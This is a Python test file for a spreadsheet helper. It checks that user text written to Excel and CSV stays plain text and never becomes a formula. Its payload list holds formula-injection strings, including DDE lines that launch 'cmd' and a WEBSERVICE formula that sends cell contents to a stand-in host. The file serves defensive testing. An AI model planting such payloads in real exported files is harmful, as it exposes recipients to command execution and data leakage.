import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

from files.cells import LONGEST, csv_text, put_text, safe_text, text_cell

PAYLOADS = [
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid","点我")',
    "=IMPORTXML(A1)",
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=@SUM(1)",
    "==1",
    "=",
    "=中文",
    "= 1+1",
    "=1\n+1",
    "{=1+1}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "——按月推进",
    "@SUM(1+1)",
    "@",
    "@中文",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "　=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "#N/A",
    "#REF!",
    "12345678901234567890",
    "2024-10-25",
    "1e5",
    "TRUE",
    "<f>1+1</f>",
    "&lt;f&gt;",
    "%0A=1+1",
    "|calc",
    "R1C1",
    "[1]Sheet!A1",
    "已完成 80%",
]


def test_there_are_at_least_forty_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


def normal():
    book = Workbook()
    for row, text in enumerate(PAYLOADS, 1):
        put_text(book.active.cell(row, 1), text)
    return book


def write_only():
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    for text in PAYLOADS:
        sheet.append([text_cell(sheet, text)])
    return book


@pytest.fixture(params=[normal, write_only])
def saved(request):
    file = io.BytesIO()
    request.param().save(file)
    return file


def test_every_payload_comes_back_as_the_same_text(saved):
    sheet = load_workbook(saved).active

    assert [sheet.cell(row, 1).value for row in range(1, len(PAYLOADS) + 1)] == PAYLOADS
    assert {cell.data_type for (cell,) in sheet.iter_rows(max_row=len(PAYLOADS))} == {"s"}


def test_the_file_holds_no_formula(saved):
    with zipfile.ZipFile(saved) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))

    assert "<f" not in xml.replace("&lt;f", "")
    assert '"quotePrefix"' not in xml


def test_text_that_looks_like_a_formula_stays_text_when_edited(saved):
    sheet = load_workbook(saved).active

    assert sheet.cell(1, 1).quotePrefix
    assert not sheet.cell(len(PAYLOADS), 1).quotePrefix


def test_a_shared_style_is_kept_and_not_changed():
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    model = WriteOnlyCell(sheet)
    model.font = Font(bold=True)
    cells = []
    for text in ("=1+1", "普通"):
        cell = WriteOnlyCell(sheet)
        cell._style = model._style
        cells.append(put_text(cell, text))
    sheet.append(cells)
    file = io.BytesIO()
    book.save(file)

    formula, plain = next(load_workbook(file).active.iter_rows())
    assert (formula.font.bold, plain.font.bold) == (True, True)
    assert (formula.quotePrefix, plain.quotePrefix) == (True, False)


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("甲\x00乙\x08\x0b\x1f丙", "甲乙丙"),
        ("甲\r\n乙\r丙\n丁\t戊", "甲\n乙\n丙\n丁\t戊"),
        ("半\ud83d个", "半个"),
        ("\ufffe\uffff末", "末"),
        ("字" * 40_000, "字" * LONGEST),
        ("𠮷" * 20_000, "𠮷" * (LONGEST // 2)),
        ("", ""),
    ],
)
def test_what_a_cell_cannot_hold_is_left_out(text, held):
    assert safe_text(text) == held
    sheet = Workbook().active
    assert put_text(sheet["A1"], text).value == held


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_begin_with_nothing_that_computes(payload):
    file = io.StringIO()
    csv.writer(file).writerow([csv_text(payload)])
    (cell,) = next(csv.reader(io.StringIO(file.getvalue())))

    assert cell.strip()[:1] not in set("=+-@\t\r＝＋－＠")
    assert cell.removeprefix("'") == payload.removeprefix("'")
